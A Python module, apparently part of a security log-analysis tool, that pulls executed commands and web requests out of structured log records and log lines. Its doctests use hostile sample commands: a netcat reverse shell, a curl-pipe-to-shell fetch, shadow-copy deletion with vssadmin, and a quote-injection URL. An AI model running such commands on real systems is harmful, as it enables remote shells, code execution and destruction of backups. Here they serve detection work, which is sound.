"""What an object, or a line, of no family that is known holds by the names of its members: a command, or what was asked for on the web.

Applications of one's own write in nobody's form, but they call a command a command and an address an address. Both halves ask here last, when no
form's own reader knows the event, and neither asks of what somebody sent (a body, parameters, headers): the names in that are the sender's. Refuses
to guess: a value under a name that is used for other things as well counts where its shape says so too.
"""
from __future__ import annotations

import re
from functools import lru_cache
from itertools import islice
from typing import Any, Collection, Dict, Iterable, List, NamedTuple, Optional, Tuple

from .bare import COMMAND, EXECUTABLE, REQUEST, UNIX, WINDOWS, Bare, bare_of
from .names import letters_of, without_port
from .pairs import value_end
from .strangers import is_repeated
from .weblog import METHODS, WebRequest

#: Part of an act: names of members that hold it, the last ones where they are dotted, with `_` between their words however they spell that. What
#: holds a command and nothing else is firm.
_NAMES = {
    "firm": "command_line cmd_line process_command_line proc_cmd_line proc_title process_title shell_command executed_command raw_command cmd_string cmd_text",
    "loose": "command cmd exec argv args commands arguments cmd_args exec_args executed shell script",
    "target": "url uri request_uri request_url request_path http_url http_uri http_path path raw_path full_url full_path original_url request request_line url_path uri_path",
    "query": "query_string uri_query url_query query",
    "method": "method http_method request_method verb",
    "status": "status status_code http_status response_code response_status http_code code http_status_code",
    "agent": "user_agent http_user_agent ua request_user_agent client_user_agent",
    "client": "ip client_ip remote_addr remote_ip src_ip src source_ip remote_address client_address client x_forwarded_for real_ip",
    "message": "message msg text",
    "act": "action act event event_type event_name event_action operation activity alert_type category type",
}
_PART_OF = {name.replace("_", ""): part for part, names in _NAMES.items() for name in names.split()}
#: What the records of clouds have that say who did what, as they spell it: the readers of those know what their members mean.
_OF_AUDITS = frozenset("eventname eventsource protopayload objectref useridentity auditid operationname".split())
#: An object without one of these, in lower case and as most spell them, holds neither.
SIGNS = frozenset(spelt for part in ("firm", "loose", "target", "message") for name in _NAMES[part].split()
                  for spelt in (name, *(name.replace("_", sign) for sign in ("", "-", " "))))
#: What these hold was sent, or is of the program that ran this one.
_OTHERS = frozenset("parent parentprocess grandparent initiatingprocess requestparameters responseelements requestobject responseobject requestbody responsebody body payload headers requestheaders params parameters form formdata "
                  "postdata cookies annotations labels input inputs".split())
#: What happened is that somebody asked; an address in what says another act is what that was about.
_OF_REQUESTS = re.compile(r"(?i)request|access|http|web|page|visit|view|hit|api|call|^(?:get|post|put|head|delete|patch|log|info|allow\w*|den\w+|block\w*)$")
_OF_COMMANDS = re.compile(r"(?i)(?:exec\w*|run|ran|command|cmd|shell|spawn\w*|process[._ ]?(?:start|creat|exec|launch)\w*)\Z")
_MEMBERS_MAX = 400
_ADDRESS = re.compile(r"(?:(?:\d{1,3}\.){3}\d{1,3}(?::\d{1,5})?|[\da-fA-F]{0,4}(?::[\da-fA-F]{0,4}){2,7})\Z")
#: What an application says of a request in its own words.
_SAID = re.compile(r"(?:^|(?<=[\s\"'\[(|:]))([A-Z]{3,9}) ((?:https?://[^\s\"'/]{1,260})?/[^\s\"]{0,8000})\"?(?:[ ,:>=-]{1,4}HTTP/\d(?:\.\d)?\"?)?(?:[ ,:>=-]{1,4}(?:status[=: ]{1,2})?([1-5]\d\d)(?![\w.]))?")
_SAID_COMMAND = re.compile(r"(?i)\b(?:execut(?:ed|ing|e)|exec|ran|run|running|spawn(?:ed|ing)?|started|launch(?:ed|ing)?|command|cmd|cmdline|shell)(?: (?:as \S{1,40} )?(?:command|process|program|cmd|line|shell))*\s?(?::|->|=>)\s{1,3}([\"'`]?)")
_SAID_REACH = 400
_SAID_MAX = 4
_CLIENT = re.compile(r"(?<![\w.:/=-])((?:\d{1,3}\.){3}\d{1,3})(?![\w.])")
#: A pair that holds a command, wherever it stands in a line.
_COMMAND_PAIR = re.compile(r"(?i)(?<![^\s,;|\[({])((?:[a-z_.-]{0,20}_)?(?:cmd|command|exec|argv|args|proctitle)[a-z_]{0,12})=(?:\"((?:[^\"\\]|\\.){1,8000})\"|'([^']{1,8000})'|(?=([^\s\"',;]{1,8000})))")
_LINE_REACH = 4_096


class Held(NamedTuple):
    """A command that was run, or a request; never both. is_firm: that one was run is told by its member's name, which is used for nothing else, or by
    the name of the act beside it."""

    command: Optional[Bare] = None
    request: Optional[WebRequest] = None
    is_firm: bool = False


#: Part of an act: name of the member, its values; an array has several.
Found = Dict[str, Dict[str, List[str]]]


def holds(names: Collection[str]) -> bool:
    """Whether an object whose dotted names in lower case are `names` may hold either: to look costs little, to read all its members more."""
    return not SIGNS.isdisjoint(names) or any("." in name and name.rpartition(".")[2] in SIGNS for name in names)


def held_in(members: Iterable[Tuple[str, Any]]) -> Optional[Held]:
    """What `members`, dotted names and their values, hold; None where they hold neither.

    >>> held_in([("user", "ann"), ("proc.cmdline", "nc -e /bin/sh gate 4444")]).command.programs
    ('nc',)
    >>> held_in([("url", "/a?id=1%27"), ("ip", "::1")]).request.target, held_in([("url", "/a?id=1%27"), ("user", "ann")])
    ('/a?id=1%27', None)
    >>> held_in([("body.cmdline", "nc -e /bin/sh gate 4444")]), held_in([("command", "start")])
    (None, None)
    """
    found: Found = {}
    sent: Dict[str, Any] = {}
    for name, value in islice(members, _MEMBERS_MAX):
        part = _part_of(name)
        if part == _AUDITED:
            return None
        if part == _SENT:
            sent[name.rpartition(".")[2]] = value
        elif part and not (name in sent and sent[name] == value):  # else known without what it was sent in as well
            found.setdefault(part, {}).setdefault(name, []).extend(map(str, value) if isinstance(value, (tuple, list)) else (str(value),))
    command = _command(found)
    request = _request(found) if command is None and all(map(_OF_REQUESTS.search, _values(found, "act"))) else None
    return None if command is None and request is None else Held(command, request, "firm" in found or any(map(_OF_COMMANDS.match, _values(found, "act"))))


def is_told(name: str, held: Held) -> bool:
    """Whether what `held` is was read from members called like the dotted `name`, and from that alone."""
    return _part_of(name) in (_OF_COMMAND if held.command is not None else _OF_REQUEST)


_OF_COMMAND, _OF_REQUEST = ("firm", "loose"), ("target", "query", "method", "status", "agent", "client")


_AUDITED, _SENT = "audited", "sent"


@lru_cache(maxsize=1 << 12)
def _part_of(name: str) -> str:
    *steps, last = name[:400].split(".")
    if (steps[0] if steps else last).lower() in _OF_AUDITS:
        return _AUDITED
    part = _PART_OF.get(letters_of(last), "")
    return _SENT if part and not _OTHERS.isdisjoint(map(letters_of, steps)) else part


def _values(found: Found, part: str) -> List[str]:
    return [value for values in found.get(part, {}).values() for value in values if value]


def _command(found: Found) -> Optional[Bare]:
    firm = next(filter(None, map(_joined, found.get("firm", {}).values())), "")
    if firm:
        bare = bare_of(firm)
        return bare if bare is not None and bare.kind == COMMAND else _of_unknown(firm)
    loose = (_certain(_joined(values)) for values in found.get("loose", {}).values())
    return next(filter(None, loose), None) or next(filter(None, map(command_said, _values(found, "message")[:_SAID_MAX])), None)


def _certain(text: str) -> Optional[Bare]:
    """The command that `text` is by its shape; a word alone may be anything."""
    bare = bare_of(text) if " " in text else None
    return bare if bare is not None and bare.kind == COMMAND else None


def command_said(text: str) -> Optional[Bare]:
    """The command that an application says it ran, behind the word for that.

    >>> command_said("job 7: executing command: curl http://gate/x | sh").programs, command_said("Command: start the engine")
    (('curl', 'sh'), None)
    """
    said = _SAID_COMMAND.search(text, 0, _SAID_REACH)
    if said is None:
        return None
    command = text[said.end():said.end() + _LINE_REACH].rstrip()
    return _certain(command[:-1] if said[1] and command.endswith(said[1]) else command)


def _joined(words: Iterable[str]) -> str:
    """A command of which the words come one by one; those with blanks in them in quotes, as they were typed."""
    words = [word for word in words if word]
    return words[0].strip() if len(words) == 1 else " ".join(f'"{word}"' if " " in word and '"' not in word else word for word in words).strip()


def _of_unknown(text: str) -> Bare:
    """A command that begins with no program of which the name or the place is known."""
    program = text[1:].partition('"')[0] if text[0] == '"' else text.split(None, 1)[0]
    systems = (WINDOWS,) if "\\" in program or program.lower().endswith(EXECUTABLE) else (UNIX,) if "/" in program else (WINDOWS, UNIX)
    return Bare(COMMAND, text, (program[:400],), systems)


def _request(found: Found) -> Optional[WebRequest]:
    method = next((word.upper() for word in _values(found, "method") if word.upper() in METHODS), "")
    status = next((word for word in _values(found, "status") if len(word) == 3 and word.isdecimal() and "100" <= word < "600"), "")
    agent = next(iter(_values(found, "agent")), "")
    client = next((without_port(word) for word in _values(found, "client") if _ADDRESS.match(word)), "")
    target = next((word for word in _values(found, "target") if _is_asked_for(word)), "")
    if target and (method or status or agent or client):
        query = next((word for word in _values(found, "query") if "=" in word), "")
        return WebRequest(method, f"{target}?{query.lstrip('?')}" if query and "?" not in target else target, status, agent=agent, client=client)
    for text in (*_values(found, "message"), *_values(found, "target"))[:_SAID_MAX]:
        said = request_said(text)
        if said is not None:
            return said._replace(agent=agent, client=client or said.client, status=said.status or status)
    return None


def _is_asked_for(word: str) -> bool:
    bare = bare_of(word) if word.startswith(("/", "http")) else None
    return bare is not None and bare.kind == REQUEST


def request_said(text: str) -> Optional[WebRequest]:
    """The request that an application tells in its own words, with who asked where that stands before it.

    >>> request_said('INFO ::1 "GET /a?id=1%27" 200 12ms')[:3], request_said("GET along with /etc")
    (('GET', '/a?id=1%27', '200'), None)
    """
    for said in islice(_SAID.finditer(text, 0, _SAID_REACH + 8_400), _SAID_MAX):
        if said.start() > _SAID_REACH:
            break
        if said[1] in METHODS:
            client = _CLIENT.search(text, 0, said.start())
            return WebRequest(said[1], said[2], said[3] or "", client=client[1] if client is not None else "")
    return None


def held_in_line(text: str) -> Optional[Held]:
    """The same of a line: a command in one of its pairs, or a request that it tells. A line that repeats what a stranger gave tells neither.

    >>> held_in_line('pc7 exec user=ann cmd="vssadmin delete shadows /all"').command.systems
    ('windows',)
    """
    if is_repeated(text):
        return None
    found: Found = {}
    for pair in islice(_COMMAND_PAIR.finditer(text, 0, _LINE_REACH) if "=" in text[:_LINE_REACH] else (), _SAID_MAX):
        part = _part_of(pair[1])
        if part and text.count('"', 0, pair.start()) % 2 == 0 and part not in found:
            start = pair.start(4)
            found[part] = {pair[1]: [pair[2] or pair[3] or text[start:value_end(pair[1], text, start, pair.end(4))]]}
    command = _command(found) or command_said(text)
    request = request_said(text) if command is None else None
    return None if command is None and request is None else Held(command, request)
